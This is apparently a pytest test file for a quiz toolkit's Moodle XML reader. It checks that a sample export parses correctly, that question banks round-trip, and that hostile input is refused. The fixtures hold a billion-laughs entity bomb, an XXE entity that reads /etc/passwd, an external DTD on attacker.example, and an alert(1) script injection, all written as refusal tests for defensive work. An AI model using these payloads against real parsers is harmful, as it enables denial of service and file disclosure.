"""Moodle XML: a Moodle export reads correctly, hostile XML is refused, banks round-trip."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.quiz.formats.helpers import held_xml, load, shipped_banks
from toolkit.quiz import BankError, grade
from toolkit.quiz.formats import read_bank, read_bank_with_warnings, write_bank
from toolkit.quiz.formats.moodle_xml import dumps, loads
from toolkit.quiz.model import (
    Matching,
    MultipleChoice,
    Numeric,
    Poll,
    Scenario,
    ShortText,
    SingleChoice,
    TrueFalse,
)
from toolkit.quiz.sanitize import markdown_to_html

# Written by hand as Moodle 4 exports a category: HTML in CDATA, fractions as percentages,
# combined feedback, hints and tags.
MOODLE_EXPORT = """\
<?xml version="1.0" encoding="UTF-8"?>
<quiz>
<!-- question: 0  -->
  <question type="category">
    <category>
      <text>$course$/top/Default for ITSM 101/Change enablement</text>
    </category>
    <info format="html">
      <text><![CDATA[<p>Questions on <strong>change</strong>.</p>]]></text>
    </info>
    <idnumber></idnumber>
  </question>

<!-- question: 2201  -->
  <question type="multichoice">
    <name>
      <text>Change success</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p dir="ltr" style="text-align: left;">What share of changes must succeed for the <em>98% bar</em>?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>3.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <single>true</single>
    <shuffleanswers>false</shuffleanswers>
    <answernumbering>abc</answernumbering>
    <showstandardinstruction>0</showstandardinstruction>
    <correctfeedback format="html">
      <text>Your answer is correct.</text>
    </correctfeedback>
    <partiallycorrectfeedback format="html">
      <text>Your answer is partially correct.</text>
    </partiallycorrectfeedback>
    <incorrectfeedback format="html">
      <text>Your answer is incorrect.</text>
    </incorrectfeedback>
    <shownumcorrect/>
    <answer fraction="100" format="html">
      <text><![CDATA[<p>98 in every 100</p>]]></text>
      <feedback format="html">
        <text><![CDATA[<p>Right: two failures in a hundred.</p>]]></text>
      </feedback>
    </answer>
    <answer fraction="0" format="html">
      <text><![CDATA[<p>90 in every 100</p>]]></text>
      <feedback format="html">
        <text><![CDATA[<p>Too low; that is ten failures.</p>]]></text>
      </feedback>
    </answer>
    <hint format="html">
      <text><![CDATA[<p>Think of 2 failures.</p>]]></text>
    </hint>
    <tags>
      <tag><text>change</text>
      </tag>
      <tag><text>dora</text>
      </tag>
    </tags>
  </question>

<!-- question: 2202  -->
  <question type="truefalse">
    <name>
      <text>CAB for everything</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Every change should go to the CAB.</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text><![CDATA[<p>Standard changes skip it.</p>]]></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>1.0000000</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <answer fraction="0" format="moodle_auto_format">
      <text>true</text>
      <feedback format="html">
        <text><![CDATA[<p>Tempting, but it slows low-risk work.</p>]]></text>
      </feedback>
    </answer>
    <answer fraction="100" format="moodle_auto_format">
      <text>false</text>
      <feedback format="html">
        <text><![CDATA[<p>Right.</p>]]></text>
      </feedback>
    </answer>
  </question>

<!-- question: 2203  -->
  <question type="numerical">
    <name>
      <text>Lead time</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Median lead time in days?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text><![CDATA[<p>Half the changes took less.</p>]]></text>
    </generalfeedback>
    <defaultgrade>2.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <answer fraction="100" format="moodle_auto_format">
      <text>4.5</text>
      <feedback format="html">
        <text></text>
      </feedback>
      <tolerance>0.25</tolerance>
    </answer>
    <answer fraction="0" format="moodle_auto_format">
      <text>7</text>
      <feedback format="html">
        <text><![CDATA[<p>That is the mean, pulled up by a few slow changes.</p>]]></text>
      </feedback>
      <tolerance>0</tolerance>
    </answer>
    <answer fraction="0" format="moodle_auto_format">
      <text>*</text>
      <feedback format="html">
        <text></text>
      </feedback>
      <tolerance>0</tolerance>
    </answer>
    <units>
      <unit>
        <multiplier>1</multiplier>
        <unit_name>days</unit_name>
      </unit>
    </units>
    <unitgradingtype>0</unitgradingtype>
    <unitpenalty>0.1000000</unitpenalty>
    <showunits>0</showunits>
    <unitsleft>0</unitsleft>
  </question>

<!-- question: 2204  -->
  <question type="shortanswer">
    <name>
      <text>Fruit</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Which fruit: green SLAs, unhappy users?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <usecase>0</usecase>
    <answer fraction="100" format="moodle_auto_format">
      <text>watermelon</text>
      <feedback format="html">
        <text><![CDATA[<p>Green outside, red inside.</p>]]></text>
      </feedback>
    </answer>
    <answer fraction="50" format="moodle_auto_format">
      <text>melon</text>
      <feedback format="html">
        <text></text>
      </feedback>
    </answer>
  </question>

<!-- question: 2205  -->
  <question type="matching">
    <name>
      <text>DORA keys</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Match each key.</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <shuffleanswers>true</shuffleanswers>
    <subquestion format="html">
      <text><![CDATA[<p>Deployment frequency</p>]]></text>
      <answer>
        <text>How often you deploy</text>
      </answer>
    </subquestion>
    <subquestion format="html">
      <text><![CDATA[<p>Lead time</p>]]></text>
      <answer>
        <text>Commit to production</text>
      </answer>
    </subquestion>
    <subquestion format="html">
      <text></text>
      <answer>
        <text>Number of meetings</text>
      </answer>
    </subquestion>
  </question>

<!-- question: 2206  -->
  <question type="multichoice">
    <name>
      <text>Outcomes</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Which are outcomes?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <single>false</single>
    <shuffleanswers>true</shuffleanswers>
    <answernumbering>abc</answernumbering>
    <answer fraction="50" format="html">
      <text><![CDATA[<p>Users finish their task</p>]]></text>
      <feedback format="html"><text><![CDATA[<p>Yes.</p>]]></text></feedback>
    </answer>
    <answer fraction="50" format="html">
      <text><![CDATA[<p>Fewer repeat calls</p>]]></text>
      <feedback format="html"><text><![CDATA[<p>Yes.</p>]]></text></feedback>
    </answer>
    <answer fraction="-50" format="html">
      <text><![CDATA[<p>Tickets closed</p>]]></text>
      <feedback format="html"><text><![CDATA[<p>An output.</p>]]></text></feedback>
    </answer>
  </question>

<!-- question: 2207  -->
  <question type="ddwtos">
    <name>
      <text>Drag words</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>The [[1]] sat on the [[2]].</p>]]></text>
    </questiontext>
  </question>

</quiz>
"""  # noqa: E501


def _line_of(name: str) -> int:
    lines = MOODLE_EXPORT.split("\n")
    text_line = next(n for n, line in enumerate(lines, 1) if f"<text>{name}</text>" in line)
    return next(n for n in range(text_line, 0, -1) if "<question " in lines[n - 1])


def test_a_moodle_export_reads_into_our_types(tmp_path: Path) -> None:
    path = tmp_path / "itsm-101.xml"
    path.write_text(MOODLE_EXPORT, encoding="utf-8")
    bank, warnings = read_bank_with_warnings(path)
    assert (bank.id, bank.title) == ("itsm-101", "Change enablement")
    assert bank.description == "Questions on **change**."
    single = bank.question("Change-success")
    assert isinstance(single, SingleChoice)
    assert single.prompt == "What share of changes must succeed for the *98% bar*?"
    assert [(o.text, o.correct) for o in single.options] == [
        ("98 in every 100", True),
        ("90 in every 100", False),
    ]
    assert single.options[0].explanation == "Right: two failures in a hundred."
    assert (single.difficulty, single.shuffle) == ("hard", False)
    assert single.hints == ("Think of 2 failures.",)
    assert single.tags == ("change", "dora")
    true_false = bank.question("CAB-for-everything")
    assert isinstance(true_false, TrueFalse)
    assert true_false.answer is False
    assert true_false.explanation_true == (
        "Tempting, but it slows low-risk work.\n\nStandard changes skip it."
    )
    assert true_false.explanation_false == "Right.\n\nStandard changes skip it."
    assert true_false.difficulty == "easy"
    numeric = bank.question("Lead-time")
    assert isinstance(numeric, Numeric)
    assert (numeric.answer, numeric.tolerance, numeric.unit) == (4.5, 0.25, "days")
    assert numeric.difficulty == "medium"
    assert numeric.explanation == "Half the changes took less."
    assert [(d.value, d.explanation) for d in numeric.distractors] == [
        (7.0, "That is the mean, pulled up by a few slow changes.")
    ]
    assert grade(numeric, "4.6 days").correct is True
    text = bank.question("Fruit")
    assert isinstance(text, ShortText)
    assert text.accepted == ("watermelon",)
    assert [(p.text, p.credit) for p in text.partial] == [("melon", 0.5)]
    assert grade(text, "Melon").credit == 0.5
    assert text.explanation == "Green outside, red inside."
    matching = bank.question("DORA-keys")
    assert isinstance(matching, Matching)
    assert len(matching.pairs) == 2
    assert matching.distractors == ("Number of meetings",)
    assert matching.explanation == ""
    multiple = bank.question("Outcomes")
    assert isinstance(multiple, MultipleChoice)
    assert [o.correct for o in multiple.options] == [True, True, False]
    assert warnings == [
        f"{path}:{_line_of('Drag words')}: Drag-words: warning: skipped: a drag-and-drop "
        "question has no equivalent here",
    ]


@pytest.mark.parametrize("path", shipped_banks(), ids=lambda p: p.stem)
def test_every_shipped_bank_keeps_what_moodle_xml_holds(path: Path, tmp_path: Path) -> None:
    bank = load(path)
    out = tmp_path / f"{path.stem}.xml"
    write_bank(bank, out)
    back, warnings = read_bank_with_warnings(out)
    assert held_xml(back) == held_xml(bank)
    assert warnings == []


def test_scenario_and_poll_survive_moodle_xml() -> None:
    bank = load(shipped_banks()[0])
    data, _ = dumps(bank)
    back, _ = loads(data)
    scenarios = [q for q in back.questions if isinstance(q, Scenario)]
    polls = [q for q in back.questions if isinstance(q, Poll)]
    assert len(scenarios) == sum(1 for q in bank.questions if q.type == "scenario")
    assert len(polls) == sum(1 for q in bank.questions if q.type == "poll")
    assert b'<question type="essay">' in data


BILLION_LAUGHS = """\
<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="essay"><name><text>&lol9;</text></name></question></quiz>
"""

EXTERNAL_ENTITY = """\
<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<quiz><question type="essay"><name><text>&secret;</text></name></question></quiz>
"""

EXTERNAL_DTD = """\
<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz/>
"""


def _refusal(text: str) -> str:
    with pytest.raises(BankError) as caught:
        loads(text.encode("utf-8"), file="hostile.xml")
    problems = caught.value.problems
    assert len(problems) == 1
    return str(problems[0])


def test_a_billion_laughs_file_is_refused_without_expanding() -> None:
    assert _refusal(BILLION_LAUGHS) == (
        "hostile.xml:3: refused: the file declares the entity 'lol'; entities are not "
        "expanded (nested ones can blow a few lines up into gigabytes: 'billion laughs')"
    )


def test_an_external_entity_file_is_refused_without_reading_it() -> None:
    assert _refusal(EXTERNAL_ENTITY) == (
        "hostile.xml:3: refused: the file declares the external entity 'secret' "
        "(file:///etc/passwd); it would read a file or an address outside the bank, so it "
        "is never resolved"
    )


def test_any_dtd_is_refused() -> None:
    assert _refusal(EXTERNAL_DTD) == (
        "hostile.xml:2: refused: the file declares a DTD (<!DOCTYPE quiz> pointing at "
        "'http://attacker.example/evil.dtd'); Moodle XML needs none, and a DTD can define "
        "entities that expand or read files"
    )
    assert _refusal('<?xml version="1.0"?>\n<!DOCTYPE quiz>\n<quiz/>').startswith(
        "hostile.xml:2: refused: the file declares a DTD (<!DOCTYPE quiz>);"
    )


def test_a_read_from_disk_refuses_hostile_files_too(tmp_path: Path) -> None:
    path = tmp_path / "laughs.xml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    with pytest.raises(BankError, match=r"laughs\.xml:3: refused: the file declares the entity"):
        read_bank(path)


def test_malformed_xml_names_the_parsers_line() -> None:
    text = '<?xml version="1.0"?>\n<quiz>\n  <question type="essay">\n  </quiz>\n'
    assert _refusal(text) == "hostile.xml:4: not well-formed XML: mismatched tag (column 5)"
    assert _refusal("<quiz>&undefined;</quiz>") == (
        "hostile.xml:1: not well-formed XML: undefined entity (column 7)"
    )
    assert _refusal("<questions/>") == (
        "hostile.xml:1: not Moodle XML: the root element is <questions>, not <quiz>"
    )


def test_bad_questions_are_reported_at_their_lines() -> None:
    text = """\
<quiz>
  <question type="multichoice">
    <name><text>half</text></name>
    <questiontext format="html"><text>Half right at best</text></questiontext>
    <single>true</single>
    <answer fraction="50"><text>a</text></answer>
    <answer fraction="0"><text>b</text></answer>
  </question>
  <question type="multichoice">
    <name><text>weight</text></name>
    <questiontext format="html"><text>Odd weight</text></questiontext>
    <answer fraction="lots"><text>a</text></answer>
  </question>
  <question type="truefalse">
    <name><text>tf</text></name>
    <questiontext format="html"><text></text></questiontext>
    <answer fraction="100"><text>true</text></answer>
    <answer fraction="0"><text>false</text></answer>
  </question>
</quiz>
"""
    with pytest.raises(BankError) as caught:
        loads(text, file="bad.xml")
    assert [str(p) for p in caught.value.problems] == [
        "bad.xml:2: half: no answer is worth 100% (the best is 50%): one answer must be fully "
        "right",
        "bad.xml:12: weight: fraction must be a percentage from -100 to 100, got 'lots'",
        "bad.xml:14: tf: prompt is empty",
    ]


def test_html_in_moodle_text_is_converted_and_scripts_dropped() -> None:
    text = """\
<quiz>
  <question type="truefalse">
    <name><text>xss</text></name>
    <questiontext format="html"><text><![CDATA[<p>Safe <script>alert(1)</script>&lt;b&gt;</p>]]></text></questiontext>
    <answer fraction="100"><text>true</text><feedback><text>ok</text></feedback></answer>
    <answer fraction="0"><text>false</text><feedback><text>no</text></feedback></answer>
  </question>
</quiz>
"""  # noqa: E501
    bank, _ = loads(text)
    prompt = bank.questions[0].prompt
    assert prompt == "Safe \\<b\\>"
    assert "<b>" not in markdown_to_html(prompt)
    assert "&lt;b&gt;" in markdown_to_html(prompt)
